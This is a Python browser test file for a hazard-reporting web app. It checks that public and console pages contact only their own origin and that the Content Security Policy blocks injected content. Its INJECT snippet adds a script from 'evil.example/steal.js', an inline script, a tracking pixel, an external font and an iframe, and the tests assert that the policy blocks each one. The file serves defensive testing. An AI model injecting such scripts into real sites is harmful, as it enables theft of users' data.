"""No page talks to a third party, in real Chromium, and the CSP stops what an attacker injects.

Every public page and every console page (found at run time; the console signed in as a user
with every role whose private key sits in the browser's key store, as after a real sign-in)
is opened against the real app. Every request the browser makes is recorded and must go to
the live server's own origin (data: and blob: allowed). No page may trip its own CSP while
loading. Then a script, an inline script, a picture and a font from elsewhere are injected
into a public and a console page: the CSP must block each one (a securitypolicyviolation
event and a console report) and nothing may leave the origin.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

import crypto
from reviewer import auth
from service.client import Client, urllib_transport
from service.domain import (
    invitations,
    rectification_cases,
    reward_policies,
    reward_records,
    workflow,
)
from service.domain.installation import get_installation
from service.domain.models import Case, Channel, HazardCriterion, StoredFile, User
from service.domain.models.rewards import RewardPolicyVersion
from service.domain.sealing import PlainFile
from tests.browser.live import LiveServer, running_server
from tests.browser.test_console_cases import STORE_KEY
from tests.factories import Reviewer, make_reviewer
from tests.security.support import REPORT, ROLES, console_routes, fill, routes_of

pytestmark = [pytest.mark.browser, pytest.mark.sqlite_only]

WATCH_CSP = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__csp.push({uri: e.blockedURI, directive: e.violatedDirective});
});
"""
INJECT = """
async () => {
  const before = window.__csp.length;
  const s = document.createElement('script');
  s.src = 'https://evil.example/steal.js';
  document.head.appendChild(s);
  const inline = document.createElement('script');
  inline.textContent = 'window.__pwned = true;';
  document.head.appendChild(inline);
  const img = document.createElement('img');
  img.src = 'https://tracker.example/pixel.gif';
  document.body.appendChild(img);
  const style = document.createElement('style');
  style.textContent = "@font-face{font-family:x;src:url(https://fonts.example/x.woff2)}" +
                      "body{font-family:x}";
  document.head.appendChild(style);
  const frame = document.createElement('iframe');
  frame.src = 'https://evil.example/frame';
  document.body.appendChild(frame);
  // Wait for all five reports (up to 10 s: a loaded machine delivers the frame's late).
  for (let waited = 0; waited < 10000 && window.__csp.length - before < 5; waited += 100) {
    await new Promise((r) => setTimeout(r, 100));
  }
  return {violations: window.__csp.slice(before), pwned: window.__pwned === true};
}
"""


class World:
    def __init__(self, live: LiveServer) -> None:
        self.live = live
        with live.session() as session:
            channel = session.scalar(select(Channel))
            self.allrounder: Reviewer = make_reviewer(session, "allrounder", channel,
                                                      roles=" ".join(ROLES))
            self.reviewer_id = session.scalar(select(User.id).where(
                User.username == "reviewer0"))
        evidence = bytes(range(251)) * 40
        self.receipt = Client(urllib_transport(live.base_url), language="zh-CN").submit(
            live.channel_slug, REPORT, files=[PlainFile(
                name="现场.bin", type="application/octet-stream", size=len(evidence),
                read=lambda: [evidence])])
        settings = live.settings
        with live.session() as session:
            keys = crypto.derive_receipt(self.receipt, get_installation(session).salt,
                                         settings.receipt_iterations)
            case = session.scalar(select(Case).where(
                Case.lookup_hash == keys.lookup_hash.hex()))
            actor = session.get(User, self.allrounder.user.id)
            criterion = session.scalar(select(HazardCriterion.id).limit(1))
            for action, params in (("accept", {}), ("grade", {"grade": "major",
                                                              "criterion_id": criterion}),
                                   ("start_verification", {}), ("verify", {"result": "true"})):
                workflow.perform(session, settings, case, actor, action, version=case.version,
                                 params=params)
            reward_policies.ensure_shipped(session)
            policy = session.scalar(select(RewardPolicyVersion).where(
                RewardPolicyVersion.policy_id == "national-2018"))
            reward = reward_records.propose(session, case, actor, policy.id, {"fine": "200000"})
            record = rectification_cases.open_record(session, settings, case, actor,
                                                     {"description": "储罐阀门更换"})
            _, token = invitations.create_invitation(session, roles=["reviewer"], hours=2)
            session.flush()
            self.values = {
                "case_id": case.id, "reward_id": reward.id, "record_id": str(record.id),
                "row_id": str(policy.id), "token": token, "index": "0",
                "channel_id": str(case.channel_id), "user_id": str(self.reviewer_id),
                "file_id": session.scalar(select(StoredFile.id).where(
                    StoredFile.case_id == case.id)) or "0" * 32,
                "export_id": "0" * 32, "session_id": "0" * 64, "action": "accept",
            }


@pytest.fixture(scope="module")
def browser(chromium: Any) -> Any:
    # The run's one Chromium (tests/conftest.py): a second sync Playwright cannot start.
    return chromium


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with running_server(tmp_path_factory.mktemp("third-party")) as live:
        yield World(live)


class Watcher:
    """A browser context that records every request and every CSP report of its pages."""

    def __init__(self, browser: Any, world: World) -> None:
        self.origin = world.live.base_url
        self.context = browser.new_context(base_url=self.origin, locale="zh-CN")
        self.context.add_init_script(WATCH_CSP)
        self.requests: list[str] = []
        self.console: list[str] = []
        self.aborted: list[str] = []
        self.failed: list[tuple[str, str]] = []
        self.context.on("request", lambda r: self.requests.append(r.url))
        self.context.on("requestfailed", lambda r: self.failed.append((r.url, r.failure)))

        def outside(route: Any) -> None:
            # Belt and braces: even a request the CSP failed to stop never leaves the machine.
            if route.request.url.startswith(self.origin + "/"):
                route.continue_()
            else:
                self.aborted.append(route.request.url)
                route.abort()

        self.context.route("**/*", outside)

    def page(self) -> Any:
        page = self.context.new_page()
        page.set_default_timeout(20_000)
        page.on("console", lambda m: self.console.append(m.text))
        return page

    def elsewhere(self) -> list[str]:
        return [url for url in self.requests if not url.startswith(self.origin + "/")
                and not url.startswith(("data:", "blob:"))]

    def visit(self, page: Any, path: str) -> list[str]:
        """Open ``path``, let its scripts finish, return the CSP violations it caused."""
        page.goto(path)
        page.wait_for_load_state("networkidle")
        if not page.url.startswith(self.origin):
            return [f"navigated away to {page.url}"]
        try:
            found = page.evaluate("() => window.__csp || []")
        except Exception:  # noqa: BLE001 - a download or a JSON answer has no document
            return []
        return [f"{v['directive']} blocked {v['uri']}" for v in found]


def _public_pages(world: World) -> list[str]:
    # Pages only: the favicon and the static files are what pages load, not pages.
    return [fill(r.path, world.values, r.params) for r in routes_of_app(world)
            if not r.console and "GET" in r.methods and not r.path.startswith("/api/")
            and r.path not in ("/favicon.ico", "/static/{path}")]


def routes_of_app(world: World) -> list[Any]:
    from service.app import create_app

    return routes_of(create_app(world.live.settings))


def test_public_pages_talk_only_to_their_own_origin(browser: Any, world: World) -> None:
    watcher = Watcher(browser, world)
    try:
        page = watcher.page()
        problems = []
        for path in [*_public_pages(world), "/?lang=en", "/language?lang=en&next=/followup"]:
            problems += [f"{path}: {p}" for p in watcher.visit(page, path)]
        # The reporter's case page, reached the way a reporter does: the receipt typed in.
        page.goto("/followup")
        page.fill("input[name=receipt]", world.receipt)
        page.locator("form button[type=submit]").first.click()
        page.wait_for_load_state("networkidle")
        page.locator("text=液氨管道").first.wait_for()
        problems += [f"case page: {v}" for v in page.evaluate("() => window.__csp")]
        assert not problems, "\n".join(problems)
        assert not watcher.elsewhere(), watcher.elsewhere()
        assert not watcher.aborted, watcher.aborted
        assert len(watcher.requests) > 10
    finally:
        watcher.context.close()


def test_console_pages_talk_only_to_their_own_origin(browser: Any, world: World) -> None:
    watcher = Watcher(browser, world)
    try:
        with world.live.session() as session:
            token = auth.start_session(session, world.live.settings,
                                       session.get(User, world.allrounder.user.id))
        watcher.context.add_cookies([{"name": auth.session_cookie(world.live.settings),
                                      "value": token, "url": world.live.base_url}])
        page = watcher.page()
        page.goto("/console/cases")
        private = world.allrounder.private_key
        public = crypto.public_key(private)
        assert page.evaluate(STORE_KEY, [crypto.b64u_encode(private),
                                         crypto.b64u_encode(public),
                                         crypto.key_id(public).hex()]) is True
        from service.app import create_app

        problems = []
        downloads: list[str] = []
        visited = 0
        for route in console_routes(create_app(world.live.settings)):
            if "GET" not in route.methods or route.path.endswith(("/chunks/{index}",
                                                                  "/export",
                                                                  "manifest.json",
                                                                  "head.json",
                                                                  "signing.pub")):
                continue  # downloads, not pages
            path = fill(route.path, world.values, route.params)
            # A route that answers with a file (a poster, a key file) is a download, not a
            # page: it runs no script and loads nothing, and a browser cannot "visit" it.
            # Asked once with the same session, it is skipped only when it says so itself.
            head = watcher.context.request.get(path, max_redirects=0)
            if head.headers.get("content-disposition", "").startswith("attachment"):
                downloads.append(path)
                continue
            problems += [f"{path}: {p}" for p in watcher.visit(page, path)]
            visited += 1
        # The case page decrypts the report in this browser: it really ran its scripts.
        page.goto(f"/console/cases/{world.values['case_id']}")
        page.locator("#report-description").filter(has_text="液氨管道").wait_for()
        assert visited >= 10
        assert not problems, "\n".join(problems)
        assert not watcher.elsewhere(), watcher.elsewhere()
        assert not watcher.aborted, watcher.aborted
    finally:
        watcher.context.close()


@pytest.mark.parametrize("path", ["/", "/console/login"])
def test_the_csp_blocks_injected_content(browser: Any, world: World, path: str) -> None:
    watcher = Watcher(browser, world)
    try:
        page = watcher.page()
        assert watcher.visit(page, path) == []
        result = page.evaluate(INJECT)
        blocked = {(v["directive"].split(" ")[0], v["uri"].split("/")[2] if "://" in v["uri"]
                    else v["uri"]) for v in result["violations"]}
        assert result["pwned"] is False
        assert ("script-src-elem", "evil.example") in blocked, result
        assert ("script-src-elem", "inline") in blocked, result
        assert ("img-src", "tracker.example") in blocked, result
        assert ("style-src-elem", "inline") in blocked, result
        assert ("frame-src", "evil.example") in blocked, result
        reports = [m for m in watcher.console if "Content Security Policy" in m]
        assert any("evil.example/steal.js" in m for m in reports), watcher.console
        # Chromium announces a blocked request and fails it at once with "csp": it never
        # reaches the network (nor the router above, which would abort anything else).
        blocked_here = {url for url, failure in watcher.failed if failure == "csp"}
        assert set(watcher.elsewhere()) <= blocked_here, (watcher.elsewhere(), watcher.failed)
        assert not watcher.aborted, watcher.aborted
    finally:
        watcher.context.close()


def test_pages_load_nothing_but_same_origin_assets() -> None:
    """The templates name no font, picture, script or style of another origin (a static
    check that backs the browser runs above, for pages the walk cannot reach)."""
    templates = Path(__file__).resolve().parents[2] / "templates"
    css = Path(__file__).resolve().parents[2] / "service" / "static" / "css"
    problems = []
    for file in [*templates.rglob("*.html"), *css.rglob("*.css")]:
        text = file.read_text(encoding="utf-8")
        for match in re.finditer(r"""(?:src|href|action)\s*=\s*["'](https?:)?//|url\(\s*["']?"""
                                 r"""(https?:)?//|@import""", text):
            problems.append(f"{file.name}: {text[match.start():match.start() + 80]!r}")
    assert not problems, problems
